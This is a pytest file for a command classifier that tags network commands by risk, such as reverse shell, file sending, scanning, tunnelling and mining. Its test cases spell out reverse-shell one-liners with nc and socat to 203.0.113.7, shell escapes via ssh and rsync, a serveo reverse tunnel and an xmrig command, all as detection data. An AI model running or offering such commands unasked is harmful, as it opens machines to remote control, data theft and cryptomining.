"""What programs of `command.tools.network` do, by their arguments."""

import pytest

from spawngate.command.tools.network import READERS
from tests.command.told import acts, tried

CASES: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("rclone sync a:x b:x", ("cloud-copy-between", "cloud-copy-out", "remote-copy", "send", "send-file")),
    ("rclone sync a:x a:y", ("cloud-copy-out", "remote-copy", "send", "send-file")),
    ("nc -e /bin/sh 203.0.113.7 99", ("connect", "interactive-shell", "reverse-shell", "runs-input")),
    ("nc -lvp 99", ("listen", "listen-all")),
    ("nc -z localhost 80", ("list-network",)),
    ("nc -z h.example.net 1-1000", ("scan-network",)),
    ("socat TCP:203.0.113.7:1 EXEC:/bin/sh", ("connect", "interactive-shell", "reverse-shell", "runs-input")),
    ("ssh me@h.example.net", ("interactive-shell", "remote-shell", "runs-input")),
    (
        "ssh -R 80:localhost:80 serveo.net",
        ("interactive-shell", "port-forward", "remote-shell", "runs-input", "tunnel"),
    ),
    (
        "ssh -o ProxyCommand='sh -c id' h.example.net",
        ("interactive-shell", "reconnaissance", "remote-shell", "runs-input", "shell-escape"),
    ),
    ("scp a me@h.example.net:", ("remote-copy", "send", "send-file")),
    ("scp me@h.example.net:a .", ("download", "remote-copy")),
    ("rsync -a --delete a/ b/", ("delete-tree",)),
    ("rsync -e 'sh -c id' a h:b", ("reconnaissance", "remote-copy", "send", "send-file", "shell-escape")),
    ("sftp h.example.net", ("connect", "remote-copy", "runs-input")),
    ("rclone copy a remote:b", ("cloud-copy-out", "remote-copy", "send", "send-file")),
    ("croc send a", ("send", "send-file")),
    ("dig example.net", ("list-network",)),
    ("ping -c1 h.example.net", ()),
    ("nmap 10.0.0.0/24", ("scan-network",)),
    ("sqlmap -u http://x.example.net", ("attack-tool",)),
    ("xmrig -o pool.example.net:3333", ("mine",)),
    ("tcpdump -i any", ("sniff",)),
    ("ngrok http 80", ("tunnel",)),
    ("cloudflared --version", ()),
    ("mail -s x me@x.example.net", ("mail", "send")),
    ("ip route add default via 10.0.0.1", ("proxy-set",)),
    ("ip addr", ("list-network",)),
    ("telnet h.example.net", ("connect",)),
    ("google-chrome --remote-debugging-port=9222", ("listen",)),
    ("ssh-copy-id me@h.example.net", ("remote-copy",)),
)


@pytest.mark.parametrize(("command", "expected"), CASES, ids=lambda value: value if isinstance(value, str) else "")
def test_acts(command: str, expected: tuple[str, ...]) -> None:
    assert acts(command) == expected


def test_readers_survive_anything() -> None:
    """No arguments, odd ones and many: a reader says something or nothing, and never raises."""
    for program in READERS:
        for words in (
            (),
            ("-",),
            ("--",),
            ("-x", "-x"),
            ("=", ":", "@"),
            ("a", "b:c", "http://["),
            ("-" * 9, "$x", "*"),
        ):
            assert isinstance(tried(program, words), tuple)
